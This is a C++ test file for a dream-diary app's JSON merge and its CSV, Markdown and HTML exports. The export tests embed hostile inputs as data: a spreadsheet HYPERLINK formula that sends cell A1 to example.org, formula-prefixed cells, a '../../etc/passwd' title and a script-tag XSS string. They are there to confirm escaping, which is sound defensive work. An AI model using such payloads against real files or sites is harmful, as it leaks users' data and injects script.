// The diary's exchange: our JSON file read back field by field, the merge
// (idempotent, two-way, never overwriting newer), bad files refused with the
// diary untouched, and the Markdown, CSV and HTML exports as readers see them.
#include "diary/DiaryStore.h"
#include "diary/Exchange.h"
#include "diary/Synthetic.h"
#include "platform/error/Error.h"
#include "support/QtPrint.h"

#include <QCryptographicHash>
#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTemporaryDir>
#include <QUuid>

#include <gtest/gtest.h>

#include <memory>
#include <vector>

using namespace somnex;
using namespace somnex::diary;

namespace {

// One assertion per field, and each gtest assertion counts as several
// statements: a table of fields, longer than a function.
// NOLINTNEXTLINE(readability-function-size)
void expectSame(const Entry &a, const Entry &b)
{
    SCOPED_TRACE(a.id.toStdString());
    EXPECT_EQ(a.id, b.id);
    EXPECT_EQ(a.created, b.created);
    EXPECT_EQ(a.updated, b.updated);
    EXPECT_EQ(a.at, b.at);
    EXPECT_EQ(a.at.offsetFromUtc(), b.at.offsetFromUtc());
    EXPECT_EQ(a.zone, b.zone);
    EXPECT_EQ(a.night, b.night);
    EXPECT_EQ(a.title, b.title);
    EXPECT_EQ(a.text, b.text);
    EXPECT_EQ(a.lucid, b.lucid);
    EXPECT_EQ(a.clarity, b.clarity);
    EXPECT_EQ(a.mood, b.mood);
    EXPECT_EQ(a.kinds, b.kinds);
    EXPECT_EQ(a.tags, b.tags);
    EXPECT_EQ(a.place, b.place);
    EXPECT_EQ(a.fulfilment, b.fulfilment);
    EXPECT_EQ(a.symbols, b.symbols);
    EXPECT_EQ(a.lunar, b.lunar);
    EXPECT_EQ(a.lunar.start.offsetFromUtc(), b.lunar.start.offsetFromUtc());
    EXPECT_EQ(a.deletedAt, b.deletedAt);
}

// What the diary holds, as one hash (the order of entries does not matter).
QByteArray diaryHash(const DiaryStore &store)
{
    QList<Entry> all = store.allEntries();
    std::sort(all.begin(), all.end(), [](const Entry &a, const Entry &b) { return a.id < b.id; });
    return QCryptographicHash::hash(diaryJson(all), QCryptographicHash::Sha256).toHex();
}

QByteArray readFile(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

void writeFile(const QString &path, const QByteArray &bytes)
{
    QFile f(path);
    ASSERT_TRUE(f.open(QIODevice::WriteOnly));
    f.write(bytes);
}

// A dream with every field set, and one of the odd ones.
QList<Entry> fullEntries()
{
    Entry a;
    a.at = QDateTime(QDate(2026, 12, 9), QTime(3, 15), Qt::OffsetFromUTC, 3 * 3600);
    a.zone = "Europe/Moscow";
    a.title = "Лес \"и\" река, <b>";
    a.text = QString("Шёл по лесу,\r\n\"кричал\"; потом 🌙 и ") + QChar(0) + "конец\n";
    a.lucid = true;
    a.clarity = 4;
    a.mood = -2;
    a.kinds = {DreamKind::Nightmare, DreamKind::SleepParalysis};
    a.tags = {{"Маша", TagKind::Person}, {"дача", TagKind::Place}, {"работа", TagKind::Plain}};
    a.place = Place{"Москва", 55.7522, 37.6156};
    a.fulfilment = {Mark::Partly, QDate(2026, 12, 20), "почти, но не совсем"};
    a.symbols = {{"Лес", Symbol::Origin::Found},
                 {"Река", Symbol::Origin::RemovedByHand},
                 {"Луна", Symbol::Origin::AddedByHand}};
    Entry b;
    b.at = QDateTime(QDate(1850, 1, 1), QTime(23, 59, 59), Qt::OffsetFromUTC, 2 * 3600 + 30 * 60 + 17);
    b.text = "Без места и названия";
    Entry c = syntheticEntries(1, 7).first();
    return {a, b, c};
}

class ExchangeTest : public ::testing::Test {
protected:
    QString path(const QString &name) const { return dir.filePath(name); }
    DiaryStore &filled(const QString &name)
    {
        DiaryStore &store = *stores.emplace_back(std::make_unique<DiaryStore>(path(name)));
        store.addAll(fullEntries());
        store.addAll(syntheticEntries(20, 3));
        const QString trashed = store.list().first().id;
        store.moveToTrash(trashed);
        return store;
    }
    QTemporaryDir dir;
    std::vector<std::unique_ptr<DiaryStore>> stores;
};

} // namespace

TEST(ExportName, AFileNameWithoutExtensionGetsTheFormats)
{
    EXPECT_EQ(withExportExtension(ExportFormat::Json, "/tmp/dnevnik"), "/tmp/dnevnik.json");
    EXPECT_EQ(withExportExtension(ExportFormat::Csv, "/tmp/table"), "/tmp/table.csv");
    EXPECT_EQ(withExportExtension(ExportFormat::Html, "/tmp/книга снов"), "/tmp/книга снов.html");
    EXPECT_EQ(withExportExtension(ExportFormat::Json, "/tmp/old.backup"), "/tmp/old.backup") << "a name's own kept";
    EXPECT_EQ(withExportExtension(ExportFormat::Markdown, "/tmp/notes"), "/tmp/notes") << "a folder";
    EXPECT_EQ(withExportExtension(ExportFormat::Json, ""), "");
}

TEST_F(ExchangeTest, JsonRoundTripKeepsEveryField)
{
    const DiaryStore &a = filled("a.sqlite");
    const QList<Entry> before = a.allEntries();
    ASSERT_EQ(before.size(), 23);
    const QByteArray json = diaryJson(before);
    const QJsonObject top = QJsonDocument::fromJson(json).object();
    EXPECT_EQ(top["format"].toString(), "somnex-diary");
    EXPECT_EQ(top["version"].toInt(), 1);

    const ImportedJournal journal = parseDiaryJson(json, "a.json");
    EXPECT_EQ(journal.format, "somnex-json");
    DiaryStore b(path("b.sqlite"));
    const MergePlan plan = planMerge(b, journal);
    EXPECT_EQ(plan.preview(), "Будет добавлено 23 записи, обновлено 0, уже есть 0");
    EXPECT_EQ(applyMerge(b, plan), 23);
    const QList<Entry> after = b.allEntries();
    ASSERT_EQ(after.size(), before.size());
    for (qsizetype i = 0; i < before.size(); ++i)
        expectSame(after[i], before[i]);
    EXPECT_EQ(diaryJson(after), json);
    EXPECT_EQ(b.trash().size(), 1);
}

TEST_F(ExchangeTest, ImportingTwiceAddsNothing)
{
    const DiaryStore &a = filled("a.sqlite");
    const ImportedJournal journal = parseDiaryJson(diaryJson(a.allEntries()), "a.json");
    DiaryStore b(path("b.sqlite"));
    applyMerge(b, planMerge(b, journal));
    const QByteArray once = diaryHash(b);
    const MergePlan again = planMerge(b, journal);
    EXPECT_EQ(again.preview(), "Будет добавлено 0 записей, обновлено 0, уже есть 23");
    EXPECT_EQ(applyMerge(b, again), 0);
    EXPECT_EQ(diaryHash(b), once);
}

TEST_F(ExchangeTest, TwoWayMergeGivesTheSameDiaries)
{
    DiaryStore a(path("a.sqlite"));
    DiaryStore b(path("b.sqlite"));
    a.addAll(syntheticEntries(5, 1));
    b.addAll(syntheticEntries(4, 2));
    // A dream both have, changed later in B, and one changed later in A.
    const QString shared = a.list().first().id;
    const QString other = a.list().last().id;
    applyMerge(b, planMerge(b, parseDiaryJson(diaryJson(a.allEntries()), "a.json")));
    Entry inB = *b.entry(shared);
    inB.text += " Дописано в B.";
    b.update(inB);
    Entry inA = *a.entry(other);
    inA.title = "Изменено в A";
    a.update(inA);

    const ImportedJournal fromA = parseDiaryJson(diaryJson(a.allEntries()), "a.json");
    const ImportedJournal fromB = parseDiaryJson(diaryJson(b.allEntries()), "b.json");
    const MergePlan intoB = planMerge(b, fromA);
    EXPECT_EQ(intoB.preview(), "Будет добавлено 0 записей, обновлено 1, уже есть 4");
    applyMerge(b, intoB);
    const MergePlan intoA = planMerge(a, fromB);
    EXPECT_EQ(intoA.preview(), "Будет добавлено 4 записи, обновлено 1, уже есть 4");
    applyMerge(a, intoA);
    EXPECT_EQ(diaryHash(a), diaryHash(b));
    EXPECT_TRUE(a.entry(shared)->text.endsWith(" Дописано в B."));
    EXPECT_EQ(b.entry(other)->title, "Изменено в A");
}

TEST_F(ExchangeTest, OlderVersionNeverOverwrites)
{
    DiaryStore store(path("d.sqlite"));
    const QString id = store.add(syntheticEntries(1, 5).first());
    Entry old = *store.entry(id);
    old.text = "старая версия";
    old.updated = old.updated.addSecs(-60);
    ImportedJournal j{"somnex-json", "x.json", {old}};
    const QByteArray before = diaryHash(store);
    EXPECT_EQ(planMerge(store, j).unchanged, 1);
    // Even written directly, the store keeps the newer one.
    EXPECT_EQ(store.putAll({old}), 0);
    EXPECT_EQ(diaryHash(store), before);
    old.updated = old.updated.addSecs(120);
    EXPECT_EQ(applyMerge(store, planMerge(store, j = {"somnex-json", "x.json", {old}})), 1);
    EXPECT_EQ(store.entry(id)->text, "старая версия");
}

TEST_F(ExchangeTest, EntriesWithoutIdMatchOnMomentAndText)
{
    DiaryStore store(path("d.sqlite"));
    Entry known = syntheticEntries(1, 9).first();
    store.add(known);
    const Entry &same = known; // the same dream read from another journal
    Entry changed = known;     // the same moment, another text
    changed.text += " И ещё.";
    Entry fresh = syntheticEntries(2, 10).last();
    const ImportedJournal j{"jrnl", "j.txt", {same, changed, fresh, fresh}};
    const MergePlan plan = planMerge(store, j);
    EXPECT_EQ(plan.preview(), "Будет добавлено 2 записи, обновлено 0, уже есть 2");
    for (const Entry &e : plan.toAdd)
        EXPECT_FALSE(QUuid::fromString(e.id).isNull()) << e.id.toStdString();
    applyMerge(store, plan);
    EXPECT_EQ(store.list().size(), 3);
    EXPECT_EQ(planMerge(store, j).preview(), "Будет добавлено 0 записей, обновлено 0, уже есть 4");
}

TEST_F(ExchangeTest, PreviewDeclinesTheNoun)
{
    const struct {
        int added;
        const char *text;
    } cases[] = {{1, "1 запись"},   {2, "2 записи"},      {5, "5 записей"}, {11, "11 записей"},
                 {21, "21 запись"}, {112, "112 записей"}, {0, "0 записей"}};
    for (const auto &c : cases) {
        MergePlan p;
        p.toAdd.resize(c.added);
        p.unchanged = 3;
        EXPECT_EQ(p.preview(), QString("Будет добавлено %1, обновлено 0, уже есть 3").arg(c.text)) << c.added;
    }
}

TEST_F(ExchangeTest, BadFilesAreRefusedNamingFileAndEntry)
{
    DiaryStore source(path("s.sqlite"));
    source.addAll(syntheticEntries(3, 4));
    const QByteArray good = diaryJson(source.allEntries());
    const QJsonObject top = QJsonDocument::fromJson(good).object();
    // The second entry changed by f.
    auto second = [&](const std::function<void(QJsonObject &)> &f) {
        QJsonObject t = top;
        QJsonArray list = t["entries"].toArray();
        QJsonObject e = list[1].toObject();
        f(e);
        list[1] = e;
        t["entries"] = list;
        return QJsonDocument(t).toJson();
    };
    QByteArray badUtf8 = good;
    badUtf8.replace(badUtf8.indexOf("\"text\": \"") + 9, 1, "\xC3\x28");
    QJsonObject v2 = top;
    v2["version"] = 2;
    const struct {
        const char *name;
        QByteArray bytes;
        const char *message;
    } cases[] = {
        {"cut", good.left(good.size() / 2), "повреждён или обрезан"},
        {"invalid utf-8", badUtf8, "не в кодировке UTF-8"},
        {"text a number", second([](QJsonObject &e) { e["text"] = 5; }), "запись 2: поле «text» должно быть строкой"},
        {"no text", second([](QJsonObject &e) { e.remove("text"); }), "запись 2: нет поля «text»"},
        {"clarity a string", second([](QJsonObject &e) { e["clarity"] = "3"; }),
         "запись 2: поле «clarity» должно быть целым числом от 1 до 4"},
        {"mood out of range", second([](QJsonObject &e) { e["mood"] = 3; }), "запись 2: поле «mood»"},
        {"year out of range", second([](QJsonObject &e) { e["at"] = "1200-01-01T10:00:00+03:00"; }),
         "запись 2: дата сна 01.01.1200 вне допустимых пределов"},
        {"bad moment", second([](QJsonObject &e) { e["at"] = "2026-02-30T10:00:00+03:00"; }),
         "запись 2: неверное время"},
        {"lunar day 31", second([](QJsonObject &e) {
             QJsonObject l = e["lunar"].toObject();
             l["day"] = 31;
             e["lunar"] = l;
         }),
         "запись 2: поле «day»"},
        {"unknown kind", second([](QJsonObject &e) { e["kinds"] = QJsonArray{"кошмар"}; }),
         "запись 2: неизвестный вид сна"},
        {"bad id", second([](QJsonObject &e) { e["id"] = "1234"; }), "запись 2: неверный номер записи"},
        {"repeated id", second([&](QJsonObject &e) { e["id"] = top["entries"][0]["id"]; }), "запись 2: номер «"},
        {"empty entry", second([](QJsonObject &e) { e = QJsonObject(); }), "запись 2: нет поля «id»"},
        {"newer version", QJsonDocument(v2).toJson(), "более новой версией"},
    };
    DiaryStore store(path("d.sqlite"));
    store.addAll(syntheticEntries(2, 8));
    const QByteArray before = diaryHash(store);
    for (const auto &c : cases) {
        SCOPED_TRACE(c.name);
        const QString file = path("bad.json");
        writeFile(file, c.bytes);
        try {
            const ImportedJournal j = readAnyJournal(file, {});
            applyMerge(store, planMerge(store, j));
            ADD_FAILURE() << "read";
        } catch (const Error &e) {
            EXPECT_EQ(e.number(), kErrorJournalBad);
            EXPECT_TRUE(e.description().contains(file)) << e.description().toStdString();
            EXPECT_TRUE(e.description().contains(QString::fromUtf8(c.message))) << e.description().toStdString();
        }
        EXPECT_EQ(diaryHash(store), before);
    }
}

TEST_F(ExchangeTest, OversizedFileIsRefusedUnread)
{
    const QString file = path("huge.json");
    QFile f(file);
    ASSERT_TRUE(f.open(QIODevice::WriteOnly));
    f.write("{\"format\": \"somnex-diary\", \"version\": 1, \"entries\": [");
    ASSERT_TRUE(f.resize(qint64(100) * 1024 * 1024)); // sparse: costs no disk
    f.close();
    bool foreignCalled = false;
    try {
        readAnyJournal(file, [&](const QString &) {
            foreignCalled = true;
            return ImportedJournal{};
        });
        ADD_FAILURE() << "read";
    } catch (const Error &e) {
        EXPECT_EQ(e.description(), QString("Файл «%1»: файл больше 64 МБ; такой файл не читается. Ничего не "
                                           "импортировано.")
                                       .arg(file));
    }
    EXPECT_FALSE(foreignCalled);
}

TEST_F(ExchangeTest, FormatsAreTriedInTurn)
{
    DiaryStore source(path("s.sqlite"));
    source.addAll(syntheticEntries(2, 4));
    const QString ours = path("ours.json");
    const QString other = path("other.txt");
    writeFile(ours, diaryJson(source.allEntries()));
    writeFile(other, "2026-12-09 03:00 Сон из другого журнала.\n");
    const QString ansi = path("ansi.txt"); // Windows-1251: no UTF-8
    writeFile(ansi, "{\"\xd1\xee\xed\": 1}");
    QStringList asked;
    const JournalReader foreign = [&](const QString &p) {
        asked << p;
        return ImportedJournal{"jrnl", p, {}};
    };
    EXPECT_EQ(readAnyJournal(ours, foreign).format, "somnex-json");
    EXPECT_EQ(readAnyJournal(other, foreign).format, "jrnl");
    EXPECT_EQ(readAnyJournal(ansi, foreign).format, "jrnl");
    EXPECT_EQ(asked, (QStringList{other, ansi}));
    for (const QString &p : {other, path("folder")}) {
        QDir().mkpath(path("folder"));
        try {
            readAnyJournal(p, {});
            ADD_FAILURE() << p.toStdString();
        } catch (const Error &e) {
            EXPECT_EQ(e.number(), kErrorJournalUnknown);
            EXPECT_TRUE(e.description().contains("формат не распознан")) << e.description().toStdString();
            EXPECT_TRUE(e.description().contains(p)) << e.description().toStdString();
        }
    }
}

TEST_F(ExchangeTest, MergeIsAllOrNone)
{
    DiaryStore store(path("d.sqlite"));
    store.addAll(syntheticEntries(2, 1));
    const QByteArray before = diaryHash(store);
    QList<Entry> journal = syntheticEntries(5, 2);
    journal[4].mood = 7; // a foreign reader's value out of range
    try {
        applyMerge(store, planMerge(store, {"jrnl", "сны.txt", journal}));
        ADD_FAILURE() << "merged";
    } catch (const Error &e) {
        EXPECT_EQ(e.description(), "Файл «сны.txt», запись 5: Настроение сна задаётся от -2 до +2, а не 7. Ничего "
                                   "не импортировано.");
    }
    EXPECT_EQ(diaryHash(store), before);
    // Even what slips past the plan is written all or none.
    MergePlan plan = planMerge(store, {"jrnl", "сны.txt", syntheticEntries(5, 2)});
    plan.toAdd[4].text = QString(kMaxTextBytes / 2 + 1, QChar(0x0436));
    EXPECT_THROW(applyMerge(store, plan), Error);
    EXPECT_EQ(diaryHash(store), before);
}

// ---- the other formats ---------------------------------------------------------------

namespace {

// A quoted CSV field from text[i] (the opening quote) to past its closing
// quote, a doubled quote inside read as one; false (a test failure) when
// the field never ends.
bool readQuotedField(const QString &text, qsizetype &i, QString &field)
{
    const qsizetype n = text.size();
    for (++i; i < n; ++i) {
        if (text[i] != '"') {
            field += text[i];
        } else if (i + 1 < n && text[i + 1] == '"') {
            field += '"';
            ++i;
        } else {
            ++i;
            return true;
        }
    }
    ADD_FAILURE() << "unterminated quoted field";
    return false;
}

// An unquoted field up to the next comma or line end; false (a test
// failure) for a quote inside it.
bool readPlainField(const QString &text, qsizetype &i, QString &field)
{
    const qsizetype n = text.size();
    for (; i < n && text[i] != ',' && text[i] != '\r' && text[i] != '\n'; ++i) {
        if (text[i] == '"') {
            ADD_FAILURE() << "quote inside an unquoted field at " << i;
            return false;
        }
        field += text[i];
    }
    return true;
}

// A strict RFC 4180 reader: every record ends in CRLF, quotes only around a
// whole field, a quote inside one doubled. Fails the test on anything else.
QList<QStringList> readCsv(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString field;
    qsizetype i = 0;
    const qsizetype n = text.size();
    while (i < n) {
        const bool read = text[i] == '"' ? readQuotedField(text, i, field) : readPlainField(text, i, field);
        if (!read)
            return rows;
        row << field;
        field.clear();
        if (i < n && text[i] == ',') {
            ++i;
        } else if (i + 1 < n && text[i] == '\r' && text[i + 1] == '\n') {
            rows << row;
            row.clear();
            i += 2;
        } else {
            ADD_FAILURE() << "a record not ended by CRLF at " << i;
            return rows;
        }
    }
    EXPECT_TRUE(row.isEmpty()) << "the last record has no CRLF";
    return rows;
}

} // namespace

TEST_F(ExchangeTest, CsvReadsBackStrictly)
{
    const DiaryStore &store = filled("d.sqlite");
    const QList<Entry> entries = entriesForExport(store.allEntries(), ExportFormat::Csv, {}, {});
    ASSERT_EQ(entries.size(), 22) << "the trash is not exported";
    const QByteArray csv = diaryCsv(entries);
    ASSERT_TRUE(csv.startsWith("\xEF\xBB\xBF"));
    const QString text = QString::fromUtf8(csv.mid(3));
    const QList<QStringList> rows = readCsv(text);
    ASSERT_EQ(rows.size(), 23);
    EXPECT_EQ(rows[0][4], "Название");
    for (const QStringList &row : rows)
        EXPECT_EQ(row.size(), rows[0].size());
    for (qsizetype i = 0; i < entries.size(); ++i) {
        const Entry &e = entries[i];
        const QStringList &row = rows[i + 1];
        EXPECT_EQ(row[0], e.id);
        EXPECT_EQ(row[1], e.night.addDays(1).toString(Qt::ISODate)) << "the night by its morning, as the list names it";
        EXPECT_EQ(row[4], e.title);
        EXPECT_EQ(row[5], QString(e.text).remove(QChar(0)));
    }
}

// Text from another journal must not run as a spreadsheet formula when the
// table is opened: such cells begin with an apostrophe, numbers stay numbers.
TEST_F(ExchangeTest, CsvCellsNeverRunAsFormulas)
{
    Entry e = fullEntries().first();
    e.title = "=HYPERLINK(\"http://example.org/?\"&A1,\"сон\")";
    e.text = "+SUM(1;2)";
    e.fulfilment.note = "@cmd";
    e.mood = -2;
    e.clarity = 3;
    ASSERT_TRUE(e.place);
    e.place->name = "-1+2";
    e.zone = "\t=1";
    const QStringList row = readCsv(QString::fromUtf8(diaryCsv({e}).mid(3))).value(1);
    ASSERT_EQ(row.size(), 21);
    EXPECT_EQ(row[4], "'" + e.title);
    EXPECT_EQ(row[5], "'+SUM(1;2)");
    EXPECT_EQ(row[18], "'@cmd");
    EXPECT_EQ(row[12], "'-1+2");
    EXPECT_EQ(row[3], "'\t=1");
    EXPECT_EQ(row[8], "-2") << "a number is left a number";
    EXPECT_EQ(row[7], "3");
    e.title = "- Куда ты? — спросил он.";
    e.text = "Обычный сон = обычный день";
    const QStringList plain = readCsv(QString::fromUtf8(diaryCsv({e}).mid(3))).value(1);
    EXPECT_EQ(plain[4], "'- Куда ты? — спросил он.");
    EXPECT_EQ(plain[5], e.text) << "only the first character counts";
}

TEST_F(ExchangeTest, MarkdownNotesHaveSafeUniqueNames)
{
    Entry e = fullEntries().first();
    e.night = nightOf(e.at);
    QStringList taken;
    const struct {
        QString title;
        QString name;
    } cases[] = {
        {"Лес \"и\" река, <b>", "2026-12-09-лес-и-река-b.md"},
        {"ЛЕС и река b", "2026-12-09-лес-и-река-b-2.md"},
        {"../../etc/passwd", "2026-12-09-etc-passwd.md"},
        {".скрытый", "2026-12-09-скрытый.md"},
        {"???", "2026-12-09-son.md"},
        {"", "2026-12-09-шёл-по-лесу-кричал-потом.md"},
        {QString("очень ").repeated(12) + "длинное", "2026-12-09-" + QString("очень-").repeated(9) + "очень.md"},
    };
    for (const auto &c : cases) {
        e.title = c.title;
        EXPECT_EQ(markdownFileName(e, taken), c.name) << c.title.toStdString();
    }
}

TEST_F(ExchangeTest, MarkdownFrontMatterIsQuotedYaml)
{
    Entry e = fullEntries().first();
    DiaryStore store(path("d.sqlite"));
    e = *store.entry(store.add(e));
    const QString note = markdownNote(e);
    const QStringList lines = note.split('\n');
    ASSERT_EQ(lines[0], "---");
    for (const char *line :
         {"title: \"Лес \\\"и\\\" река, <b>\"", "night: 2026-12-09", "mark_note: \"почти, но не совсем\"",
          "latitude: 55.7522", "at: \"2026-12-09T03:15:00+03:00\"", "tags: [\"Маша\", \"дача\", \"работа\"]",
          "lucid: true", "mark: \"частично\"", "marked_on: 2026-12-20", "symbols: [\"Лес\", \"Луна\"]",
          "kinds: [\"кошмар\", \"сонный паралич\"]"})
        EXPECT_TRUE(lines.contains(QString::fromUtf8(line))) << line << "\n" << note.toStdString();
    EXPECT_TRUE(lines.contains(QString("lunar_day: %1").arg(e.lunar.lunarDay)));
    EXPECT_EQ(lines.indexOf("---", 1) > 0, true);
    EXPECT_FALSE(note.contains(QChar(0)));
    EXPECT_TRUE(note.endsWith("конец\n"));
}

TEST_F(ExchangeTest, HtmlBookIsEscapedByNight)
{
    DiaryStore store(path("d.sqlite"));
    Entry a = fullEntries().first();
    a.text = "<script>alert('x')</script> & ещё";
    Entry b = a;
    b.at = b.at.addDays(-1);
    store.addAll({a, b});
    const QByteArray bytes = diaryHtml(entriesForExport(store.allEntries(), ExportFormat::Html, {}, {}),
                                       QDate(2026, 12, 1), QDate(2026, 12, 31));
    ASSERT_TRUE(bytes.isValidUtf8());
    const QString h = QString::fromUtf8(bytes);
    EXPECT_FALSE(h.contains("<script>"));
    EXPECT_TRUE(h.contains("&lt;script&gt;alert('x')&lt;/script&gt; &amp; ещё"));
    EXPECT_TRUE(h.contains("<title>Книга снов: ночи с 1 декабря 2026 г. по 31 декабря 2026 г.</title>"));
    const qsizetype first = h.indexOf("<h2>Ночь на 8 декабря 2026</h2>");
    const qsizetype second = h.indexOf("<h2>Ночь на 9 декабря 2026</h2>");
    EXPECT_GT(first, 0);
    EXPECT_GT(second, first);
    EXPECT_TRUE(h.contains("Символы: Лес, Луна"));
    EXPECT_TRUE(h.contains(QString("лунный день %1").arg(store.allEntries().first().lunar.lunarDay)));
    EXPECT_EQ(h.count("<article>"), h.count("</article>"));
}

TEST_F(ExchangeTest, ExportReplacesOnlyWhenAllowed)
{
    const DiaryStore &store = filled("d.sqlite");
    const QDate from(2005, 1, 1), to(2015, 12, 31);
    for (ExportFormat format : {ExportFormat::Json, ExportFormat::Markdown, ExportFormat::Csv, ExportFormat::Html}) {
        const QString out = path(QString("out-%1").arg(int(format)));
        const QList<Entry> entries = entriesForExport(store.allEntries(), format, from, to);
        ASSERT_FALSE(entries.isEmpty());
        for (const Entry &e : entries)
            EXPECT_TRUE(e.night >= from && e.night <= to);
        EXPECT_TRUE(exportWouldReplace(format, out, entries).isEmpty());
        EXPECT_EQ(exportDiary(format, out, entries, from, to, false), entries.size());
        const QStringList existing = exportWouldReplace(format, out, entries);
        EXPECT_EQ(existing.size(), format == ExportFormat::Markdown ? entries.size() : 1);
        const QString file = format == ExportFormat::Markdown ? existing.first() : out;
        const QByteArray written = readFile(file);
        writeFile(file, "мой файл");
        EXPECT_THROW(exportDiary(format, out, entries, from, to, false), Error);
        EXPECT_EQ(readFile(file), "мой файл");
        exportDiary(format, out, entries, from, to, true);
        EXPECT_EQ(readFile(file), written);
        // No temporary file is left beside what was written.
        if (format == ExportFormat::Markdown)
            EXPECT_EQ(QDir(out).entryList(QDir::Files | QDir::Hidden).size(), entries.size());
        else
            EXPECT_EQ(QDir(dir.path()).entryList({QString("out-%1*").arg(int(format))}, QDir::Files | QDir::Hidden),
                      QStringList{QString("out-%1").arg(int(format))});
    }
}

TEST_F(ExchangeTest, CliImportOfBadFileLeavesTheDiary)
{
    QTemporaryDir profile;
    auto run = [&](const QStringList &args, QString *err = nullptr) {
        QProcess p;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert("TZ", "Europe/Moscow");
        env.insert("XDG_CONFIG_HOME", profile.path() + "/config");
        env.insert("XDG_DATA_HOME", profile.path() + "/data");
        p.setProcessEnvironment(env);
        p.start(qEnvironmentVariable("SOMNEX_BUILD_DIR") + "/bin/somnex-cli", args);
        EXPECT_TRUE(p.waitForFinished(60000));
        if (err)
            *err = QString::fromUtf8(p.readAllStandardError());
        return std::pair(p.exitCode(), QString::fromUtf8(p.readAllStandardOutput()));
    };
    ASSERT_EQ(run({"diary", "synth", "5"}).first, 0);
    const QString json = path("cli.json");
    ASSERT_EQ(run({"diary", "export", "--format", "json", "--out", json}).first, 0);
    QString err;
    EXPECT_EQ(run({"diary", "export", "--format", "json", "--out", json}, &err).first, 1);
    EXPECT_TRUE(err.contains("--force")) << err.toStdString();
    const QString diaryPath = profile.path() + "/data/ZUL Programming/ZUL Somnex/3.1/Diary/diary.sqlite";
    const QByteArray before = diaryHash(DiaryStore(diaryPath));
    QByteArray cut = readFile(json);
    writeFile(path("cut.json"), cut.left(cut.size() - 40));
    EXPECT_EQ(run({"diary", "import", path("cut.json")}, &err).first, 1);
    EXPECT_TRUE(err.contains("обрезан")) << err.toStdString();
    // a file that is no diary: the user's message alone, no developer's trace before it
    writeFile(path("plain.txt"), "hello");
    EXPECT_EQ(run({"diary", "import", path("plain.txt")}, &err).first, 1);
    EXPECT_TRUE(err.startsWith("Не удаётся прочитать дневник")) << err.toStdString();
    EXPECT_FALSE(err.contains("somnex.ignored")) << err.toStdString();
    EXPECT_EQ(diaryHash(DiaryStore(diaryPath)), before);
    const auto again = run({"diary", "import", json, "--dry-run"});
    EXPECT_EQ(again.second, "Будет добавлено 0 записей, обновлено 0, уже есть 5\n");
}

TEST_F(ExchangeTest, AfterAMergeTheStoreSeesOtherWriters)
{
    // A statement of the merge left open would pin this store to the
    // diary as it was and keep the other writer's entry from it.
    DiaryStore store(path("d.sqlite"));
    QList<Entry> journal = syntheticEntries(3, 1);
    journal[0].id = QUuid::createUuid().toString(QUuid::WithoutBraces);
    applyMerge(store, planMerge(store, {"jrnl", "j", journal}));
    Entry newer = *store.entry(journal[0].id);
    newer.updated = newer.updated.addSecs(-5);
    EXPECT_EQ(store.putAll({newer}), 0);
    DiaryStore other(path("d.sqlite"));
    const QString id = other.add(syntheticEntries(1, 2).first());
    EXPECT_TRUE(store.entry(id).has_value());
    EXPECT_EQ(store.list().size(), 4);
    EXPECT_EQ(store.putAll(syntheticEntries(2, 3)), 2);
    EXPECT_EQ(other.list().size(), 6);
}
